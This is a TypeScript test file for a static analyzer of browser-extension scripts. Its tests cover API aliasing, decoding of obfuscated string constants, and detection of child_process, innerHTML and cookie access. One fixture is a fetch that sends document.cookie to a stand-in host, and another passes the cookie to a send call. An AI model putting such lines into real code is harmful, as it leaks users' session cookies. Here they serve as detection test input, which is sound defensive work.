import { describe, expect, it } from 'vitest';
import { parseScript } from './parse.ts';
import {
  apiPath,
  callsNamed,
  callsOf,
  constant,
  pattern,
  placeAt,
  propertyOf,
  readsOf,
  show,
  writesOf,
} from './query.ts';

const paths = (text: string, name: string): (string | undefined)[] => {
  const script = parseScript(text);
  return callsNamed(script, name).map((call) => apiPath(script, call.callee));
};

describe('names through aliases', () => {
  it.each([
    ['chrome.tabs.query({})', 'query'],
    ['browser.tabs.query({})', 'query'],
    ['window.chrome.tabs.query({})', 'query'],
    ['const b = globalThis.browser ?? chrome; b.tabs.query({})', 'query'],
    ['var b = typeof browser === "undefined" ? chrome : browser; b.tabs.query({})', 'query'],
    ['import api from "webextension-polyfill"; api.tabs.query({})', 'query'],
    ['import * as api from "webextension-polyfill"; api.tabs.query({})', 'query'],
    ['import { tabs } from "webextension-polyfill"; tabs.query({})', 'query'],
    ['import { browser } from "./api.js"; browser.tabs.query({})', 'query'],
    ['const { tabs } = chrome; tabs.query({})', 'query'],
    ['const { tabs: { query } } = chrome; query({})', 'query'],
    ['chrome["tabs"]["que" + "ry"]({})', 'query'],
    ['(function (c) { c.tabs.query({}) })(chrome)', 'query'],
    ['const a = require("webextension-polyfill"); a.tabs.query({})', 'query'],
    ['var n = r(42), o = r.n(n); o.a.tabs.query({})', 'query'],
    ['a = chrome.tabs; a["que" + "ry"]({})', 'query'],
    ['let api = chrome; if (x) api = browser; api.tabs.query({})', 'query'],
    ['var self = this; chrome.tabs.query.call(chrome.tabs, {})', 'query'],
  ])('%s', (text, name) => {
    const found = paths(text, name)[0];
    expect(found).toBe('chrome.tabs.query');
  });

  it('knows imports inside functions that stand before them', () => {
    expect(paths('function f() { ext.tabs.query({}) } import ext from "webextension-polyfill";', 'query')).toEqual([
      'chrome.tabs.query',
    ]);
  });

  it('names a local of the same name nothing', () => {
    expect(paths('function f(fetch) { fetch("x") }', 'fetch')).toEqual([undefined]);
  });

  it('knows modules of Node', () => {
    const script = parseScript(
      'import { exec as run } from "node:child_process"; const { promisify } = require("util"); promisify(require("fs").readFile)("x"); run("ls")',
    );
    expect(callsOf(script, 'child_process.exec')).toHaveLength(1);
    expect(callsOf(script, 'fs.readFile')).toHaveLength(1);
  });
});

describe('constants', () => {
  it.each([
    ['f("a" + "b")', 'ab'],
    ['const u = "a"; f(`${u}b`)', 'ab'],
    ['f(atob("YWI="))', 'ab'],
    ['const d = (s) => atob(s); f(d("YWI="))', 'ab'],
    ['function d(a, b) { return a + "-" + b; } f(d("x", "y"))', 'x-y'],
    ['f(["YQ==", "Yg=="].map(atob).join("."))', 'a.b'],
    ['f([97, 98].map((c) => String.fromCharCode(c)).join(""))', 'ab'],
    ['const p = ["x", "a", "b"]; f(p.slice(1).join("."))', 'a.b'],
    ['f(["a"].concat("bc", ["d"]).join("."))', 'a.bc.d'],
    ['const c = JSON.parse(atob("eyJhIjp7ImIiOiJ4In19")); f(c.a.b)', 'x'],
    ['f(String.fromCharCode(97, 98))', 'ab'],
    ['f(["a", "b"].join(""))', 'ab'],
    ['f("ba".split("").reverse().join(""))', 'ab'],
    ['f(String.fromCharCode(...[97, 98]))', 'ab'],
    ['f(Object.values({ a: "a", b: "b" }).join(""))', 'ab'],
    ['f("a-b-c".replaceAll("-", "+"))', 'a+b+c'],
    ['f("a-b-c".replace("-", "$&"))', 'a$&b-c'],
    ['f("xaby".slice(1, 3))', 'ab'],
    [`f("${'a'.repeat(20)}".replaceAll("a", "${'b'.repeat(900)}"))`, 'b'.repeat(10_000)],
    [`f("${'a'.repeat(20)}".split("").join("${'-'.repeat(999)}"))`, `a${'-'.repeat(999)}`.repeat(10)],
    ['const c = { k: { v: "ab" } }; f(c.k.v)', 'ab'],
    ['f(unescape("%61b"))', 'ab'],
    ['f(x + "b")', undefined],
    ['function g(u = "ab") { f(u) }', undefined],
    ['(function (u) { f(u) })("ab")', 'ab'],
  ])('%s', (text, expected) => {
    const script = parseScript(text);
    expect(constant(script, callsNamed(script, 'f')[0]?.args[0] ?? 0)).toBe(expected);
  });

  it('ends on lists that are put into lists over and over, and on functions that are called for each', () => {
    const of = (one: string): string => Array.from({ length: 200 }, () => one).join();
    const lists = Array.from({ length: 5 }, (_, at) => `const l${at + 1} = [${of(`...l${at}`)}];`).join('');
    const text = `const l0 = ['']; ${lists} const g = (x) => [${of('x')}].join(''); f(l5.join('')); f([${of("''")}].map(g).map(g).join(''))`;
    const script = parseScript(text);
    for (const { args } of callsNamed(script, 'f')) expect(constant(script, args[0] ?? 0)).toBe(undefined);
  });

  it('shows the shape of what is only partly known', () => {
    const script = parseScript('const host = "https://a.example"; f(host + "/c?" + encodeURIComponent(x))');
    expect(pattern(script, callsNamed(script, 'f')[0]?.args[0] ?? 0)).toBe('https://a.example/c?*');
  });
});

describe('writes, reads, places', () => {
  it('takes one of a table that holds addresses, and of no other table', () => {
    const shapeOf = (text: string): string => {
      const script = parseScript(text);
      return pattern(script, callsNamed(script, 'f')[0]?.args[0] ?? 0);
    };
    const hosts = "const hosts = { test: 'http://localhost:80', live: 'https://a.example' }";
    expect(shapeOf(`${hosts}; f(hosts[isTest ? 'test' : 'live'] + '/x')`)).toBe('https://a.example/x');
    expect(shapeOf("f(['https://eu.a.example', 'https://us.a.example'][n])")).toBe('https://eu.a.example');
    expect(shapeOf("f(['https://maker.test', 'https://other.test'][n])")).toBe('*');
    expect(shapeOf("f({ a: 'https://a.example', b: 'none' }[n])")).toBe('*');
  });

  it('finds writes of a property', () => {
    const script = parseScript('\n  el.innerHTML = x;\nel["inner" + "HTML"] += y;');
    const found = writesOf(script, 'innerHTML');
    expect(found).toHaveLength(2);
    expect(placeAt(script, 'a.js', found[0]?.pos ?? 0)).toEqual({ path: 'a.js', line: 2, column: 3 });
  });

  it('finds reads of a name', () => {
    expect(readsOf(parseScript('send(window.document.cookie)'), 'document.cookie')).toHaveLength(1);
  });

  it('finds properties through variables and spreads', () => {
    const script = parseScript('const base = { code: "x" }; const o = { ...base, file: "y" }; f(o)');
    const object = callsNamed(script, 'f')[0]?.args[0] ?? 0;
    expect(constant(script, propertyOf(script, object, 'code'))).toBe('x');
    expect(constant(script, propertyOf(script, object, 'file'))).toBe('y');
    expect(propertyOf(script, object, 'none')).toBe(0);
  });

  it('writes values out as source', () => {
    const script = parseScript(
      'fetch("https://a.example/?c=" + document.cookie, { method: "POST", body: JSON.stringify(e) })',
    );
    expect(show(script, script.calls.at(-1) ?? 0)).toBe(
      'fetch("https://a.example/?c=" + document.cookie, {method: "POST", body: JSON.stringify(e)})',
    );
  });
});
